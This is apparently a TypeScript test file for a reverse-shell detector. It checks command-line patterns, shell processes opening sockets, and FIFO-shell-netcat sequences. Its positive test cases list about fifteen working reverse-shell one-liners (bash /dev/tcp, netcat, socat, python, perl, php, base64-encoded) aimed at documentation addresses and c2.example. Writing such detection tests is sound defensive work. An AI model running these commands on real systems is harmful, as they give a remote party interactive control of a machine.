import { describe, expect, test } from "vitest";
import type { SocketConnected } from "../events/fact.ts";
import { reverseShellSiblings } from "./reverse-shell.siblings.ts";
import { reverseShellSocket } from "./reverse-shell.socket.ts";
import { reverseShell } from "./reverse-shell.ts";
import { clear, ShellHost } from "./testing/shell-host.ts";

describe("reverse shell by its command line", () => {
  test.each([
    "sqlite3 x.db '.shell mkfifo q; cat q | sh -i | nc 192.0.2.7 80 > q'",
    "bash -i >& /dev/tcp/192.0.2.9/8443 0>&1",
    "exec 7<>/dev/tcp/192.0.2.9/8443; sh <&7 >&7 2>&7",
    "exec 7<>/dev/tcp/192.0.2.9/8443; cat <&7 | while read l; do $l >&7 2>&7; done",
    "nc 192.0.2.9 8443 -e /bin/dash",
    "ncat --ssl -c 'bash -i' c2.example 8443",
    "mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | nc 192.0.2.9 8443 > /tmp/p",
    "telnet 192.0.2.9 1 | sh | telnet 192.0.2.9 2",
    "socat OPENSSL:192.0.2.9:443,verify=0 EXEC:/bin/bash,pty",
    'python3 -c \'import socket,os;s=socket.create_connection(("192.0.2.9",8443));os.dup2(s.fileno(),0);os.execl("/bin/sh","sh")\'',
    "perl -MIO::Socket -e '$c=IO::Socket::INET->new(PeerAddr=>\"192.0.2.9:8443\");while(<$c>){print $c `$_`}'",
    'php -r \'$f=fsockopen("192.0.2.9",8443);passthru("sh <&3 >&3 2>&3");\'',
    "echo c2ggLWkgPiYgL2Rldi90Y3AvMTkyLjAuMi45Lzg0NDMgMD4mMQ== | base64 -d | sh",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's own syntax
    "coproc nc 192.0.2.9 8443; sh <&${COPROC[0]} >&${COPROC[1]}",
    "docker exec web sh -c 'nc 192.0.2.9 8443 -e sh'",
  ])("%s", (line) => {
    expect(clear(new ShellHost(reverseShell).line(line))).toHaveLength(1);
  });

  test.each([
    ["a port check", "timeout 2 bash -c '</dev/tcp/192.0.2.9/5432'"],
    ["an HTTP request by hand", "exec 7<>/dev/tcp/192.0.2.9/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&7; cat <&7"],
    ["a transfer", "tar c . | nc 192.0.2.9 9000"],
    ["a scan of one port", "nc -zv 192.0.2.9 22"],
    ["this machine only", "bash -i >& /dev/tcp/127.0.0.1/8443 0>&1"],
    ["a FIFO without a shell", "mkfifo /tmp/p; cat /tmp/p | nc 192.0.2.9 80"],
    ["a relay", "socat TCP-LISTEN:80,fork TCP:192.0.2.9:80"],
    ["a client in python", "python3 -c 'import socket;socket.create_connection((\"192.0.2.9\",80))'"],
    ["a mention", "echo 'bash -i >& /dev/tcp/192.0.2.9/8443 0>&1'"],
    ["a bind shell, which is possible-backdoor", "nc -lp 8443 -e /bin/sh"],
  ])("%s stays quiet", (_, line) => {
    expect(new ShellHost(reverseShell).line(line)).toEqual([]);
  });

  test("the destination is told", () => {
    const [match] = new ShellHost(reverseShell).run("nc -e /bin/sh 192.0.2.9 8443");
    expect(match?.evidence.destination).toEqual({ ip: "192.0.2.9", port: 8443 });
  });
});

describe("reverse shell by a shell that connects itself", () => {
  const connected = (argv: string[], ip = "192.0.2.9", port = 8443, exe = "/usr/bin/bash"): SocketConnected => ({
    kind: "socket.connected",
    at: 1,
    destination: { ip, port },
    process: { pid: 9, ppid: 8, exe, argv },
  });
  const judged = (fact: SocketConnected) => new ShellHost(reverseShellSocket).judge(fact);

  test("an interactive shell is reported, one that runs a script only as a hint", () => {
    expect(clear(judged(connected(["-bash"])))).toHaveLength(1);
    expect(judged(connected(["bash", "wait-for-it.sh"]))[0]?.confidence).toBe("low");
    expect(judged(connected(["-bash"], "10.0.0.5", 1883))[0]?.confidence).toBe("low");
    expect(clear(judged(connected(["-bash"], "10.0.0.5", 1884)))).toHaveLength(1);
    expect(clear(judged(connected(["-bash"], "203.0.113.9", 1883)))).toHaveLength(1);
  });

  test.each([
    ["a name lookup", connected(["-bash"], "192.0.2.1", 53)],
    ["this machine", connected(["-bash"], "127.0.0.1")],
    ["another program", connected(["curl"], "192.0.2.9", 443, "/usr/bin/curl")],
    ["a check whose text was judged already", connected(["bash", "-c", "</dev/tcp/192.0.2.9/5432"])],
  ])("%s stays quiet", (_, fact) => {
    expect(judged(fact)).toEqual([]);
  });
});

describe("reverse shell by the children of a prompt", () => {
  test("a FIFO, a shell and a connection within five seconds", () => {
    const host = new ShellHost(reverseShellSiblings);
    host.run("mkfifo /tmp/p");
    host.run("cat /tmp/p");
    host.run("sh -i");
    expect(host.run("nc 192.0.2.9 8443")).toHaveLength(1);
  });

  test("the same over more than five seconds, or without the FIFO, stays quiet", () => {
    const slow = new ShellHost(reverseShellSiblings);
    slow.run("mkfifo /tmp/p");
    slow.run("sh -i");
    slow.now += 5001;
    expect(slow.run("nc 192.0.2.9 8443")).toEqual([]);
    const plain = new ShellHost(reverseShellSiblings);
    plain.run("cat /tmp/p");
    plain.run("sh -i");
    expect(plain.run("nc 192.0.2.9 8443")).toEqual([]);
  });

  test("at five seconds exactly it still counts; a listener is not a reverse shell", () => {
    const edge = new ShellHost(reverseShellSiblings);
    edge.run("mkfifo /tmp/p");
    edge.run("sh -i");
    edge.now += 5000;
    expect(edge.run("nc 192.0.2.9 8443")).toHaveLength(1);
    const bind = new ShellHost(reverseShellSiblings);
    bind.run("mkfifo /tmp/p");
    bind.run("sh -i");
    expect(bind.run("nc -lp 8443")).toEqual([]);
  });
});
